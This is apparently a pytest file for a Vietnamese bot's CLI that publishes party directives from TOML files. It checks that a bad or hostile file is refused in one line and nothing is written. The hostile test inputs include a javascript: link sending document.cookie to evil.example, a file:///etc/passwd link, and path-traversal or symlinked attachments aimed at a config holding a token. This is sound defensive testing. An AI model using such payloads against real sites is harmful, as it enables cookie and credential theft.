"""``chithi publish file.toml`` against the running bot's database: the CLI writes, the bot's
outbox sender posts; a file with one bad directive publishes nothing and says why in one line."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from bot import cli
from bot.cli import commands_publish
from storage.models import Delivery, Directive
from tests.kit.harness import FakeClock, Harness, MakeHarness
from tests.kit.paths import SAMPLE
from tests.kit.publishing import post_in
from tests.kit.scene import build_scene

SAMPLE_TEXT = (SAMPLE / "directives.toml").read_text(encoding="utf-8")
BLOCKS = {
    block.split('"', 2)[1]: f"[[directive]]{block}"
    for block in SAMPLE_TEXT.split("[[directive]]")[1:]
    if block.lstrip().startswith("number")
}


@pytest.fixture
async def fast(make_harness: MakeHarness) -> AsyncIterator[Harness]:
    """The running bot with a sender paced for tests (the sandbox enforces no limits here)."""
    flood = {"per_chat_per_second": 100, "per_group_per_minute": 6000}
    async with make_harness(flood=flood) as h:
        yield h


@pytest.fixture(autouse=True)
def cli_clock(monkeypatch: pytest.MonkeyPatch, clock: FakeClock) -> None:
    """The CLI decides "past" with the same clock as the bot, not the machine's."""
    monkeypatch.setattr(commands_publish, "utc_now", clock)


async def run_cli(
    h: Harness, tmp_path: Path, toml: str | Path, capsys: pytest.CaptureFixture[str]
) -> tuple[int, list[str], list[str]]:
    """Run ``chithi --config cfg publish file`` (its own event loop, in a thread); ``toml`` is
    the file's text, or a path to publish as it is."""
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "{h.settings.database.url}"\n', encoding="utf-8")
    if isinstance(toml, Path):
        file = toml
    else:
        file = tmp_path / "directives.toml"
        file.write_text(toml, encoding="utf-8")
    capsys.readouterr()
    code = await asyncio.to_thread(cli.main, ["--config", str(config), "publish", str(file)])
    out, err = capsys.readouterr()
    return code, out.splitlines(), err.splitlines()


async def count(h: Harness, column: Any) -> int:
    async with h.db() as s:
        return int(await s.scalar(select(func.count(column))) or 0)


async def test_cli_publishes_and_the_running_bot_posts_once_per_linked_chat(
    fast: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    h = fast
    scene = await build_scene(h)
    code, out, err = await run_cli(h, tmp_path, BLOCKS["1208-CV/BTGTU"], capsys)
    assert (code, err) == (0, [])
    assert out == [
        "Đã ban hành 1208-CV/BTGTU: 3 nhóm, 0 bản gửi riêng, 6 tin nhắn vào hàng đợi gửi."
    ]
    await h.outbox_idle()
    async with h.db() as s:
        [d] = (await s.scalars(select(Directive))).all()
    for code_, group in scene.groups.items():
        messages = h.bot_messages(group.id)
        posts = [m for m in messages if m.get("text")]
        assert len(posts) == 1 and len([m for m in messages if m.get("photo")]) == 1, code_
        buttons = posts[0]["reply_markup"]["inline_keyboard"][0]
        assert [b["text"] for b in buttons] == ["✅ Đã nhận", "📖 Đã học tập"]
    dx01 = scene.groups["BP-DX-01"].id
    await h.press(scene.users["m1"], dx01, post_in(h, dx01)["message_id"], f"c:{d.id}:s")
    await h.settle(lambda: post_in(h, dx01)["text"].endswith("Đã nhận 1/4 · Đã học 1/4"))
    [report] = await h.send(scene.users["sec_dx"], "/pending 1208-CV/BTGTU")
    assert "Chi bộ trạm y tế 1 (BP-DX-01): nhận 1/4 · học 1/4" in report["text"]
    assert "Chưa nhận (3): Lý Thanh Dung, Vũ Kim Mai, Đặng Thị Yến" in report["text"]
    assert "Chưa nhận (2): Đỗ Xuân Hải, Dương Bích Lan" in report["text"]
    assert "Chưa nhận (1): Ngô Thị Hoa" in report["text"]  # BP-DX-03 has no group: still listed
    assert "BP-BL" not in report["text"]


async def test_one_bad_directive_in_a_file_publishes_nothing(
    fast: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    h = fast
    await build_scene(h)
    good = BLOCKS["297-CV/BTGTU"]
    first = BLOCKS["1208-CV/BTGTU"]
    cases = {
        "unknown target": (
            first.replace('targets = ["BP"]', 'targets = ["BP", "BP-XX"]'),
            'văn bản 1208-CV/BTGTU: Không có đơn vị mã "BP-XX".',
        ),
        "past deadline": (
            first.replace("receive_by = 2027-02-20T17:00:00", "receive_by = 2027-01-05T17:00:00"),
            "văn bản 1208-CV/BTGTU: Hạn receive_by (05/01/2027 17:00) đã qua. "
            "Hãy nhập một thời điểm trong tương lai.",
        ),
        "the same number twice": (
            first + "\n" + first,
            "văn bản 1208-CV/BTGTU: Văn bản số 1208-CV/BTGTU của Ban Tuyên giáo Tỉnh ủy "
            "Bình Phước đã được ban hành rồi.",
        ),
    }
    for name, (bad, reason) in cases.items():
        code, out, err = await run_cli(h, tmp_path, good + "\n" + bad, capsys)
        assert code == 1, name
        assert out == [], name
        assert len(err) == 1 and err[0].endswith(reason), (name, err)
        assert ": không ban hành văn bản nào — " in err[0]
        assert await count(h, Directive.id) == 0, name
        assert await count(h, Delivery.id) == 0, name
    # a number already published earlier is refused the same way
    assert (await run_cli(h, tmp_path, first, capsys))[0] == 0
    code, out, err = await run_cli(h, tmp_path, good + "\n" + first, capsys)
    assert code == 1 and len(err) == 1 and "đã được ban hành rồi" in err[0]
    assert await count(h, Directive.id) == 1
    # and a file that cannot be read says so in one line too
    code, out, err = await run_cli(h, tmp_path, "[[directive]]\nnumber = ", capsys)
    assert code == 1 and len(err) == 1 and "sai cú pháp TOML" in err[0]


async def test_the_whole_sample_file_in_one_go(
    fast: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    h = fast
    scene = await build_scene(h)
    # the file itself: its attachment (a PDF) is found next to it
    code, out, err = await run_cli(h, tmp_path, SAMPLE / "directives.toml", capsys)
    assert (code, err) == (0, [])
    assert [line.split(":")[0] for line in out] == [
        "Đã ban hành 1208-CV/BTGTU",
        "Đã ban hành 1539-CV/HU",
        "Đã ban hành 297-CV/BTGTU",
        "Đã ban hành CT-2022/TU",
        "Đã ban hành TTBCXB-2022",
    ]
    assert "1539-CV/HU: 0 nhóm" in out[1]  # BP-HQ has no linked group in this scene
    await h.outbox_idle(timeout=30)
    for code_, group in scene.groups.items():
        messages = h.bot_messages(group.id)
        posts = [m["text"].split("\n")[0] for m in messages if m.get("text")]
        assert sorted(posts) == sorted(
            [
                "📄 Công văn số 1208-CV/BTGTU",
                "📄 Công văn số 297-CV/BTGTU",
                "📄 Chỉ thị số CT-2022/TU",
                "📄 Công văn số TTBCXB-2022",
            ]
        ), code_
        assert len([m for m in messages if m.get("photo")]) == 5, code_  # 1 + 3 + 0 + 1 QR
        assert len([m for m in messages if m.get("document")]) == 1, code_
    async with h.db() as s:
        states = dict(
            (await s.execute(select(Delivery.state, func.count()).group_by(Delivery.state))).all()
        )
    assert states == {"sent": 3 * (4 + 5 + 1)}


def _hostile(first: str, folder: Path) -> dict[str, tuple[str, str, str]]:
    """name: (TOML text, the line the error names, what the one-line error ends with)."""
    link = 'links = [{ label = "Trang Tự hào Bình Phước", url = "http://www.facebook.com/trangtuhaobinhphuoc/" }]'
    assert link in first

    def with_links(url: str) -> str:
        return first.replace(link, f'links = [{{ label = "Trang", url = "{url}" }}]')

    def with_attachment(name: str) -> str:
        return first.replace(link, f'{link}\nattachments = ["{name}"]')

    body = first.split('body = """', 1)[1].split('"""', 1)[0]
    return {
        "javascript: link": (
            with_links("javascript:fetch('//evil.example/'+document.cookie)"),
            "links",
            "chỉ nhận địa chỉ web bắt đầu bằng http:// hoặc https://.",
        ),
        "file: link": (
            with_links("file:///etc/passwd"),
            "links",
            "chỉ nhận địa chỉ web bắt đầu bằng http:// hoặc https://.",
        ),
        "attachment in the parent folder": (
            with_attachment("../config.toml"),
            "attachments",
            "Hãy chép tệp vào thư mục đó rồi ghi tên tệp.",
        ),
        "absolute attachment": (
            with_attachment(str(folder.parent / "config.toml")),
            "attachments",
            "Hãy chép tệp vào thư mục đó rồi ghi tên tệp.",
        ),
        "symlink leaving the folder": (
            with_attachment("phu-luc.pdf"),
            "attachments",
            "Hãy chép tệp vào thư mục đó rồi ghi tên tệp.",
        ),
        "1 MB body": (
            first.replace(body, "\nCán bộ & đảng viên <học tập>. " * 35_000),
            "body",
            "Hãy đưa toàn văn vào tệp đính kèm (PDF) và chỉ ghi tóm tắt ở nội dung.",
        ),
        "issued in 9999": (
            first.replace("issued_on = 2019-02-15", "issued_on = 9999-02-15"),
            "issued_on",
            "Ngày ban hành 15/02/9999 còn ở tương lai. Hãy ghi ngày đã ký văn bản.",
        ),
        "deadline in 9999": (
            first.replace("receive_by = 2027-02-20T17:00:00", "receive_by = 9999-12-31T23:59:00"),
            "receive_by",
            "Hạn xác nhận đã nhận (receive_by) (31/12/9999 23:59) xa quá; muộn nhất là "
            "14/01/2032. Hãy kiểm tra lại năm.",
        ),
        "deadline in year 1": (
            first.replace("receive_by = 2027-02-20T17:00:00", "receive_by = 0001-01-01T03:00:00"),
            "receive_by",
            "Hạn receive_by (01/01/0001 03:00) đã qua. Hãy nhập một thời điểm trong tương lai.",
        ),
        "title longer than its column": (
            first.replace(
                'title = "V/v tăng cường', 'title = "' + '&"<' * 200 + " V/v tăng cường", 1
            ).replace('&"<', '&\\"<'),
            "title",
            "Trích yếu (title) dài quá (681 ký tự); tối đa 512 ký tự. Hãy rút gọn.",
        ),
    }


@pytest.mark.timeout(120)
async def test_a_hostile_file_is_refused_in_one_line_and_writes_nothing(
    fast: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 9 items 1, 8, 9: the TOML path obeys the dialogue's rules (no javascript:/file:
    links, attachments only from the file's folder, a body cap, sane dates, lengths that fit
    PostgreSQL), never hangs, and says which line of the file is wrong."""
    h = fast
    await build_scene(h)
    folder = tmp_path / "vb"
    folder.mkdir()
    (tmp_path / "config.toml").write_text('[bot]\ntoken = "123:SECRET"\n', encoding="utf-8")
    (folder / "phu-luc.pdf").symlink_to(tmp_path / "config.toml")
    file = folder / "directives.toml"
    good = BLOCKS["297-CV/BTGTU"]
    for name, (bad, field, reason) in _hostile(BLOCKS["1208-CV/BTGTU"], folder).items():
        text = good + "\n" + bad
        file.write_text(text, encoding="utf-8")
        code, out, err = await run_cli(h, tmp_path, file, capsys)
        assert (code, out) == (1, []), name
        assert len(err) == 1 and err[0].endswith(reason), (name, err)
        line = _line_in_second_table(text, f"{field} ")
        assert err[0].startswith(
            f"{file} (dòng {line}): không ban hành văn bản nào — văn bản 1208-CV/BTGTU: "
        ), (name, err)
        assert await count(h, Directive.id) == 0, name
        assert await count(h, Delivery.id) == 0, name


def _line_in_second_table(text: str, start: str) -> int:
    lines = text.splitlines()
    table = [n for n, x in enumerate(lines) if x == "[[directive]]"][1]
    return next(n for n in range(table, len(lines)) if lines[n].startswith(start)) + 1


async def test_field_errors_of_the_file_name_their_line_not_a_type_error(
    fast: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 9 item 8: "directive 2: unknown field" came out as "Translator.__call__() got
    multiple values for argument 'key'"; a syntax error names its line too."""
    h = fast
    await build_scene(h)
    good, first = BLOCKS["297-CV/BTGTU"], BLOCKS["1208-CV/BTGTU"]
    cases = {
        first.replace("requires_study = true", "requires_studdy = true"): (
            "requires_studdy",
            'văn bản thứ 2: không có trường "requires_studdy"',
        ),
        first.replace("requires_study = true", 'requires_study = "có"'): (
            "requires_study",
            'văn bản thứ 2: trường "requires_study" cần dạng true/false',
        ),
        first.replace('issuer = "Ban Tuyên giáo Tỉnh ủy Bình Phước"\n', ""): (
            "[[directive]]",
            'văn bản thứ 2: thiếu trường "issuer"',
        ),
    }
    for bad, (field, reason) in cases.items():
        text = good + "\n" + bad
        code, out, err = await run_cli(h, tmp_path, text, capsys)
        assert code == 1 and out == [] and len(err) == 1, err
        line = _line_in_second_table(text, field)
        assert err[0] == (
            f"{tmp_path / 'directives.toml'} (dòng {line}): không ban hành văn bản nào — {reason}"
        )
    text = good + "\n[[directive]]\nnumber = \n" + good
    line = text.splitlines().index("number = ") + 1
    code, out, err = await run_cli(h, tmp_path, text, capsys)
    assert code == 1 and len(err) == 1
    assert "sai cú pháp TOML" in err[0] and f"(at line {line}, column 10)" in err[0], err
    assert await count(h, Directive.id) == 0
